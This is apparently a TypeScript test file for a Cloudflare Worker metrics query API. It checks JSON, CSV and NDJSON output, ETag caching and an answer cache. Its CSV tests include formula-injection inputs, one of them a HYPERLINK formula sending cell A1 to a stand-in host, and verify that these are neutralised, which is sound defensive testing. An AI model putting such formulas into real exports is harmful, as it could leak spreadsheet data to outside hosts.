/** The forms of an answer, and answers that were given before. */
import { runDurableObjectAlarm } from "cloudflare:test";
import { exports } from "cloudflare:workers";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { ANSWER_BYTES_CACHED_MAX } from "../../worker/limits";
import { AnswerCache } from "../../worker/object/answer-cache";
import { format } from "../../worker/query/format";
import { sealMinute } from "../support/edge-minute";
import { ask, hubOf, MINUTE, post, readKey } from "./support/client";

const QUERY = "/v1/query?metric=dns_top_names&op=top";
const WINDOW = `from=${MINUTE - 600}&to=${MINUTE + 60}`;

async function get(tenant: string, headers: Record<string, string>, path = `${QUERY}&${WINDOW}`): Promise<Response> {
  return exports.default.fetch(`http://hub${path}`, { headers: { authorization: await readKey(tenant), ...headers } });
}

const bundle = (boot: bigint, names: string[]) =>
  sealMinute({ minute: MINUTE, boot, exchanges: names.map((name) => ({ client: "10.0.0.1", name })) });

/** Reads RFC 4180 as its grammar says, without looking at how it is written here. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  for (let at = 0; at < text.length; ) {
    const quoted = /^"((?:[^"]|"")*)"/.exec(text.slice(at));
    const plain = /^[^,\r\n"]*/.exec(text.slice(at))![0];
    rows.at(-1)!.push(quoted === null ? plain : quoted[1]!.replaceAll('""', '"'));
    at += quoted === null ? plain.length : quoted[0].length;
    if (text.startsWith("\r\n", at)) {
      at += 2;
      if (at < text.length) rows.push([]);
    } else {
      expect(text[at]).toBe(",");
      at += 1;
    }
  }
  return rows;
}

describe("an answer", () => {
  it("is JSON, CSV or JSON lines, as is asked for", async () => {
    await post("forms", "a", bundle(1n, ["a.example", "a.example", "b.example"]));
    const { data, meta } = await ask("forms", "metric=dns_top_names&op=top");
    const columns = Object.keys(data[0]!);
    const csv = await get("forms", { accept: "text/csv" });
    expect(csv.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
    expect(readCsv(await csv.text())).toEqual([
      columns,
      ...data.map((row) => columns.map((column) => String(row[column] ?? ""))),
    ]);
    const lines = await get("forms", { accept: "application/x-ndjson" });
    expect(
      (await lines.text())
        .trimEnd()
        .split("\n")
        .map((line) => JSON.parse(line)),
    ).toEqual(data);
    const { missing_edges: _, ...told } = meta as Record<string, unknown>;
    expect(JSON.parse(lines.headers.get("tallywire-meta")!)).toEqual(told);
  });

  it.each([
    ["", "application/json"],
    ["*/*", "application/json"],
    ["text/*", "text/csv; charset=utf-8; header=present"],
    ["application/json;q=0.5, text/csv;q=0.6", "text/csv; charset=utf-8; header=present"],
    ["*/*, application/x-ndjson", "application/x-ndjson"],
    ["text/csv;q=0, */*;q=0.1", "application/json"],
    ["TEXT/CSV", "text/csv; charset=utf-8; header=present"],
    ["text/html, */*;q=0.1", "application/json"],
    ["text/html", undefined],
    ["application/json;q=none", undefined],
  ])("to accept %j is %s", (accept, type) => {
    expect(format({ data: [], meta: {} }, accept)?.type).toBe(type);
  });

  it("that cannot be had in a form is refused with those there are", async () => {
    const response = await get("forms", { accept: "text/html" });
    expect(response.status).toBe(406);
    expect(await response.json()).toMatchObject({ error: "not_acceptable", reason: expect.stringContaining("text/csv") });
  });

  it.each([
    ["=1+2", `"'=1+2"`],
    ['=HYPERLINK("http://x.example?"&A1,"a")', `"'=HYPERLINK(""http://x.example?""&A1,""a"")"`],
    ["+1", `"'+1"`],
    ["-1", `"'-1"`],
    ["@SUM(A1)", `"'@SUM(A1)"`],
    ["\t=1", `"'\t=1"`],
    ["\r=1", `"'\r=1"`],
    ["\n=1", `"'\n=1"`],
    ["\uff1d1", `"'\uff1d1"`],
    ["'=1", `"''=1"`],
    ["a;=1", `"a;=1"`],
    ["a=1", "a=1"],
    ["'a", "'a"],
    [-1, "-1"],
    [-1e-9, "-1e-9"],
  ])("in CSV has no text that a spreadsheet computes: %j", (value, cell) => {
    expect(format({ data: [{ a: value }], meta: {} }, "text/csv")!.body).toBe(`a\r\n${cell}\r\n`);
  });

  it("in CSV has names from the wire as text, and figures as they are", async () => {
    await post("formulas", "a", bundle(1n, ["=1+2.example", "b.example"]), { "tallywire-tags": "site=%3D1%2B2" });
    const top = `${QUERY}&by=site&${WINDOW}`;
    const rows = readCsv(await (await get("formulas", { accept: "text/csv" }, top)).text());
    expect(rows.slice(1).map(([, site, key, value]) => [site, key, value])).toEqual([
      ["'=1+2", "'=1+2.example", "1"],
      ["'=1+2", "b.example", "1"],
    ]);
    const json = await (await get("formulas", {}, top)).json<{ data: object[] }>();
    expect(json.data).toMatchObject([{ site: "=1+2", key: "=1+2.example" }, { site: "=1+2" }]);
  });

  it("in CSV comes back as it was, whatever stands in its cells", () => {
    const formula = fc
      .tuple(fc.constantFrom("=", "+", "-", "@", "'", "'=", "''-", "\t"), fc.string())
      .map((parts) => parts.join(""));
    const cell = fc.oneof(
      fc.string(),
      formula,
      fc.string({ unit: "binary" }),
      fc.double({ noNaN: true, noDefaultInfinity: true }),
    );
    const rows = fc.array(fc.record({ a: cell, 'b,"c': cell, d: fc.constant(null) }), { minLength: 1, maxLength: 4 });
    fc.assert(
      fc.property(rows, (data) => {
        const { body } = format({ data, meta: {} }, "text/csv")!;
        const [head, ...lines] = readCsv(body);
        expect(head).toEqual(["a", 'b,"c', "d"]);
        for (const [index, row] of data.entries()) {
          for (const [column, value] of [row.a, row['b,"c']].entries()) {
            const cell = lines[index]![column]!;
            const isApart = typeof value === "string" && /^'+[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/.test(cell);
            expect(isApart ? cell.slice(1) : cell).toBe(String(value));
            if (typeof value === "string") expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
          }
        }
      }),
    );
  });
});

describe("an answer that was given before", () => {
  it("is not sent again where it is the same", async () => {
    await post("again", "a", bundle(1n, ["a.example"]));
    const first = await get("again", {});
    const etag = first.headers.get("etag")!;
    for (const header of [etag, `W/${etag}`, `"other", ${etag}`, "*"]) {
      const again = await get("again", { "if-none-match": header });
      expect([again.status, await again.text()]).toEqual([304, ""]);
    }
    expect((await get("again", { "if-none-match": etag, accept: "text/csv" })).status).toBe(200);
    await post("again", "b", bundle(2n, ["a.example"]));
    const changed = await get("again", { "if-none-match": etag });
    expect([changed.status, changed.headers.get("etag") === etag]).toEqual([200, false]);
  });

  it("is never older than what was acknowledged", async () => {
    const total = async () => (await ask("fresh", "metric=dns_requests_total&op=sum")).data.map((row) => row.value);
    for (let edge = 1; edge <= 5; edge++) {
      await post("fresh", `edge-${edge}`, bundle(BigInt(edge), ["a.example"]));
      expect(await total()).toEqual([edge]);
      await runDurableObjectAlarm(hubOf("fresh"));
      expect(await total()).toEqual([edge]);
      expect(await total()).toEqual([edge]);
    }
  });
});

describe("the cache of answers", () => {
  const BYTES_PER_CHARACTER = 2;
  /** Rows whose text takes so many bytes. */
  const rows = (bytes: number) => ({ data: [{ key: "x".repeat(bytes / BYTES_PER_CHARACTER) }], setApart: 0 });
  const add = (cache: AnswerCache<object>, query: string, bytes: number) => cache.add(query, "1", rows(bytes), bytes);
  const HALF = ANSWER_BYTES_CACHED_MAX / 2 - 1000;

  it("knows a query in its state, and drops what was not asked for longest when it is full", () => {
    const cache = new AnswerCache<object>(ANSWER_BYTES_CACHED_MAX);
    add(cache, "a", HALF);
    add(cache, "b", HALF);
    expect(cache.find("a", "1")).toBeDefined();
    add(cache, "c", 4000);
    expect(cache.find("b", "1")).toBeUndefined();
    expect(cache.find("a", "1")).toBeDefined();
    expect(cache.find("a", "2")).toBeUndefined();
    expect(cache.find("a", "1")).toBeUndefined();
    expect(cache.find("c", "1")).toEqual(rows(4000));
  });

  it("keeps no answer that is larger than itself, nor endless empty ones of long queries", () => {
    const cache = new AnswerCache<object>(ANSWER_BYTES_CACHED_MAX);
    add(cache, "large", ANSWER_BYTES_CACHED_MAX + 2);
    expect(cache.find("large", "1")).toBeUndefined();
    const query = (index: number) => `${index}`.padEnd(60_000, "x");
    const fitting = Math.floor(ANSWER_BYTES_CACHED_MAX / (BYTES_PER_CHARACTER * 60_002));
    for (let index = 0; index <= fitting; index++) cache.add(query(index), "1", { data: [], setApart: 0 }, 0);
    expect(cache.find(query(0), "1")).toBeUndefined();
    expect(cache.find(query(1), "1")).toBeDefined();
  });
});
